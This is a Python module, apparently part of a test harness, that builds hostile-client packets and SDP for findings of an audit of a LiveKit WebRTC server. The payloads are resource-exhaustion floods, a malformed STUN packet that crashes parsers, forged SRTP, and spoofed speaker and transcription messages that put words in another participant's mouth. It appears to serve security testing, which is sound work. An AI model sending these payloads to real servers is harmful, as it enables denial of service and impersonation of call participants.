"""The bytes a hostile client sends: each builder makes one attack's packet, SDP or message.

Pure functions (no I/O), so their output can be checked on its own; `loadtest.hostile` sends
them. The numbers in parentheses refer to the findings of the 2026-12 audit.
"""

from __future__ import annotations

import json
import secrets
import struct

from livekit.protocol import models, rtc

from loadtest.packets import PT_RTPFB, Feedback, rtp_header
from loadtest.webrtc import LocalParameters, Sdp, SdpError

EXT_MID_URI = "urn:ietf:params:rtp-hdrext:sdes:mid"
EXT_RID_URI = "urn:ietf:params:rtp-hdrext:sdes:rtp-stream-id"
MID_EXT, RID_EXT = 4, 10


def add_track_blowup(cid: str, layers: int = 3000, codecs: int = 3000) -> rtc.AddTrackRequest:
    """(1) One AddTrackRequest whose layers × simulcast codecs a naive server multiplies."""
    return rtc.AddTrackRequest(
        cid=cid,
        name="camera",
        type=models.TrackType.VIDEO,
        source=models.TrackSource.CAMERA,
        layers=[models.VideoLayer()] * layers,
        simulcast_codecs=[rtc.SimulcastCodec()] * codecs,
    )


def twcc_packet() -> bytes:
    """(2) A transport-cc feedback (RTPFB FMT 15) claiming 65,535 statuses in nine run chunks."""
    body = struct.pack("!IIHHI", 1, 2, 0, 65535, 0) + struct.pack("!H", 8191) * 9 + b"\0\0"
    return struct.pack("!BBH", 0x80 | 15, PT_RTPFB, (4 + len(body)) // 4 - 1) + body


def twcc_flood_compound(count: int = 30) -> bytes:
    """(2) `count` TWCC packets in one compound: 1,200 bytes at the default 30."""
    return twcc_packet() * count


def nack_flood_compound(
    sender_ssrc: int, media_ssrc: int, highest: int, *, span: int = 512, packets: int = 8
) -> bytes:
    """(7) `packets` generic NACKs that each list the `span` sequence numbers up to `highest`.

    Each NACK holds ceil(span / 17) PID+BLP pairs (31 for 512: 136 bytes); the NACKs repeat the
    same numbers, as a server that de-duplicates only within one packet resends each time.
    """
    first = (highest - span + 1) & 0xFFFF
    fci = b""
    covered = 0
    while covered < span:
        pid = (first + covered) & 0xFFFF
        rest = min(16, span - covered - 1)
        fci += struct.pack("!HH", pid, (1 << rest) - 1)
        covered += rest + 1
    one = bytes(Feedback(1, PT_RTPFB, sender_ssrc, media_ssrc, fci))
    return one * packets


def ssrc_group_flood(count: int = 20_000) -> list[str]:
    """(8) `count` `a=ssrc` lines and `count` FID groups pairing them with `count` more SSRCs."""
    lines = [f"a=ssrc:{n} cname:x" for n in range(1, count + 1)]
    lines += [f"a=ssrc-group:FID {n} {n + count}" for n in range(1, count + 1)]
    return lines


def _base36(n: int) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    out = ""
    while True:
        n, d = divmod(n, 36)
        out = digits[d] + out
        if n == 0:
            return out


def rid_flood(count: int = 50_000) -> list[str]:
    """(9) `count` `a=rid:<id> send` lines (short base-36 ids so 50k fit in 1 MiB)."""
    return [f"a=rid:{_base36(n)} send" for n in range(count)]


def candidate_flood(count: int = 20_000, ip: str = "10.0.0.1", priority: int = 1) -> list[str]:
    """(12) `count` host candidates `ip:1..count` as `a=candidate` lines."""
    return [f"a=candidate:{n} 1 udp {priority} {ip} {n} typ host" for n in range(1, count + 1)]


def candidate_init_json(ip: str, port: int, priority: int, foundation: str = "x") -> str:
    """A trickled `RTCIceCandidateInit` for one host candidate."""
    candidate = f"candidate:{foundation} 1 udp {priority} {ip} {port} typ host"
    return json.dumps({"candidate": candidate, "sdpMid": "0", "sdpMLineIndex": 0})


def malformed_stun() -> bytes:
    """(15) A STUN Binding request whose PRIORITY attribute is one byte long (parsers that
    `unpack('!I')` it raise struct.error)."""
    head = struct.pack("!HHI12s", 1, 8, 0x2112A442, secrets.token_bytes(12))
    return head + struct.pack("!HH", 0x24, 1) + b"X\0\0\0"


def forged_srtp(size: int = 200) -> bytes:
    """(15) A datagram that looks like SRTP (V=2, PT 96) but authenticates with no key."""
    return rtp_header(
        payload_type=96,
        sequence_number=secrets.randbits(16),
        timestamp=secrets.randbits(32),
        ssrc=secrets.randbits(32),
    ) + secrets.token_bytes(size)


def speaker_packet(victim_sid: str) -> models.DataPacket:
    """(19) A client-sent ActiveSpeakerUpdate naming someone else as speaking."""
    speaker = models.SpeakerInfo(sid=victim_sid, level=1.0, active=True)
    return models.DataPacket(
        kind=models.DataPacket.RELIABLE, speaker=models.ActiveSpeakerUpdate(speakers=[speaker])
    )


def transcription_packet(victim_identity: str, text: str = "I resign") -> models.DataPacket:
    """(19) A client-sent transcription attributing `text` to someone else."""
    segment = models.TranscriptionSegment(id="s1", text=text, final=True)
    transcription = models.Transcription(
        transcribed_participant_identity=victim_identity, track_id="TR_x", segments=[segment]
    )
    return models.DataPacket(kind=models.DataPacket.RELIABLE, transcription=transcription)


def fake_local() -> LocalParameters:
    """ICE/DTLS parameters for an offer whose ICE never completes (no socket behind them)."""
    fingerprint = ":".join(f"{b:02X}" for b in secrets.token_bytes(32))
    return LocalParameters(
        secrets.token_hex(4), secrets.token_hex(12), f"sha-256 {fingerprint}", []
    )


def offer_sdp(
    local: LocalParameters, sections: list[list[str]], *, candidates: list[str] | None = None
) -> str:
    """A BUNDLEd publisher offer: each section is `[m=line, extra lines…]`; its mid is its index.

    Transport lines (ICE, DTLS actpass, rtcp-mux) go into every section; `candidates` (default:
    the local ones) into the first.
    """
    mids = [str(i) for i in range(len(sections))]
    out = ["v=0", f"o=- {secrets.randbits(62)} 2 IN IP4 127.0.0.1", "s=-", "t=0 0"]
    out += [f"a=group:BUNDLE {' '.join(mids)}", "a=msid-semantic: WMS *"]
    cands = [f"a={c}" for c in local.candidates] if candidates is None else candidates
    for mid, (mline, *extra) in zip(mids, sections, strict=True):
        out += [
            mline,
            "c=IN IP4 127.0.0.1",
            f"a=ice-ufrag:{local.ufrag}",
            f"a=ice-pwd:{local.pwd}",
            f"a=fingerprint:{local.fingerprint}",
            "a=setup:actpass",
            f"a=mid:{mid}",
        ]
        if not mline.startswith("m=application"):
            out += ["a=sendonly", "a=rtcp-mux"]
        out += extra
        if mid == "0":
            out += cands
    return "\r\n".join(out) + "\r\n"


def audio_section(cid: str) -> list[str]:
    return [
        "m=audio 9 UDP/TLS/RTP/SAVPF 111",
        f"a=msid:hostile-stream {cid}",
        f"a=extmap:{MID_EXT} {EXT_MID_URI}",
        "a=rtpmap:111 opus/48000/2",
    ]


def video_section(cid: str, extra: list[str] | None = None) -> list[str]:
    return [
        "m=video 9 UDP/TLS/RTP/SAVPF 96",
        f"a=msid:hostile-stream {cid}",
        f"a=extmap:{MID_EXT} {EXT_MID_URI}",
        f"a=extmap:{RID_EXT} {EXT_RID_URI}",
        "a=rtpmap:96 VP8/90000",
        "a=rtcp-fb:96 nack",
        "a=rtcp-fb:96 nack pli",
        *(extra or []),
    ]


DATA_SECTION = [
    "m=application 9 UDP/DTLS/SCTP webrtc-datachannel",
    "a=sctp-port:5000",
    "a=max-message-size:262144",
]


def candidate_address(sdp: str) -> tuple[str, int]:
    """The (ip, port) of the first UDP candidate in an SDP (the port the server listens on)."""
    for m in Sdp.parse(sdp).media:
        for candidate in m.candidates:
            bits = candidate.split()
            if len(bits) > 5 and bits[2].lower() == "udp":
                return bits[4], int(bits[5])
    raise SdpError("no UDP candidate")
